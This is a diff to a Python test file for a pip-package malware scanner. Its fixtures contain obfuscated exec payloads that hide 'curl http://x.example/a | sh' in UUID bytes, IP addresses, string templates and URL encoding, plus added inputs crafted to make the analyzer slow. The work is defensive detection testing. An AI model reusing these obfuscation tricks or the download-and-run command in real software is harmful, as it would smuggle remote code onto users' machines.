@@ -3,8 +3,6 @@ hold a program until it is taken out. Each stands between code and what it does,
 
 from __future__ import annotations
 
-import sys
-
 import pytest
 
 from safe_pip.extractors import observe
@@ -63,7 +61,6 @@ HELD_IN = {
     "uuid": "import uuid\nexec(b\"\".join(uuid.UUID(u).bytes for u in ['696d706f-7274-206f-730a-6f732e737973', '74656d28-2763-7572-6c20-687474703a2f', '2f782e65-7861-6d70-6c65-2f61207c2073', '6827290a-0a0a-0a0a-0a0a-0a0a0a0a0a0a']))",
     "ip": "import ipaddress\nexec(b\"\".join(ipaddress.ip_address(u).packed for u in ['105.109.112.111', '114.116.32.111', '115.10.111.115', '46.115.121.115', '116.101.109.40', '39.99.117.114', '108.32.104.116', '116.112.58.47', '47.120.46.101', '120.97.109.112', '108.101.47.97', '32.124.32.115', '104.39.41.10']))",
     "inet aton": "import socket\nexec(b\"\".join(socket.inet_aton(u) for u in ['105.109.112.111', '114.116.32.111', '115.10.111.115', '46.115.121.115', '116.101.109.40', '39.99.117.114', '108.32.104.116', '116.112.58.47', '47.120.46.101', '120.97.109.112', '108.101.47.97', '32.124.32.115', '104.39.41.10']))",
-    "toml": "import tomllib\nexec(tomllib.loads('a=\"import os\\\\nos.system(\\'curl http://x.example/a | sh\\')\\\\n\"')[\"a\"])",
     "tmpl": 'import string\nexec(string.Template("$a os\\nos.system(\'curl http://x.example/a | sh\')").substitute(a="import"))',
     "cleandoc": 'import inspect\nexec(inspect.cleandoc("""  import os\n  os.system(\'curl http://x.example/a | sh\')\n"""))',
     "parse qs": "import urllib.parse\nexec(urllib.parse.parse_qs('a=import%20os%0Aos.system%28%27curl%20http%3A//x.example/a%20%7C%20sh%27%29%0A')[\"a\"][0])",
@@ -112,8 +109,6 @@ def test_a_function_that_starts_processes_is_not_handed_on_unseen(way: str) -> N
 
 @pytest.mark.parametrize("way", HELD_IN)
 def test_a_program_is_followed_through_what_holds_it(way: str) -> None:
-    if way == "toml" and sys.version_info < (3, 11):
-        pytest.skip("Python has no tomllib before 3.11")
     assert found_in(HELD_IN[way]) >= {"shell_download", "proc_spawn_unasked"}
 
 
@@ -138,3 +133,24 @@ def test_examples_that_are_run_by_hand_are_not_followed() -> None:
 )
 def test_ordinary_uses_are_nothing(source: str) -> None:
     assert not any(name.startswith(("proc", "shell", "dyn")) for name in found_in(source))
+
+
+SLOW = {
+    "name": "import pkgutil\npkgutil.resolve_name('a" + ".a" * 100_000 + "')",
+    "settings": "import logging.config\nd = {'()': 'a'}\n"
+    + "d = {i: d for i in ('a', 'b', 'c', 'd', 'e', 'f')}\n" * 30
+    + "logging.config.dictConfig(d)",
+    "pops": f"a = {[1] * 40_000}\nr = ''\nwhile a:\n    r += chr(a.pop())\n",
+    "pops in a loop": f"a = {[1] * 40_000}\nr = ''\nfor i in range(40000):\n    r += chr(a.pop())\n",
+    "reads": "import io\nf = io.StringIO()\n"
+    + "f.write('x' * 1000)\n" * 60
+    + "for i in range(40000):\n    r = f.getvalue()\n",
+    "examples": f"import doctest\ndoctest.script_from_examples({' ' * 50_000 + '>>>'!r} * 9)",
+    "reducers": "class A:\n    def __reduce__(self): return A, (A(),)\n" + "A()\n" * 2_000,
+}
+
+
+@pytest.mark.timeout(60)
+@pytest.mark.parametrize("way", SLOW)
+def test_what_is_made_to_be_slow_is_read_within_a_minute(way: str) -> None:
+    found_in(SLOW[way])
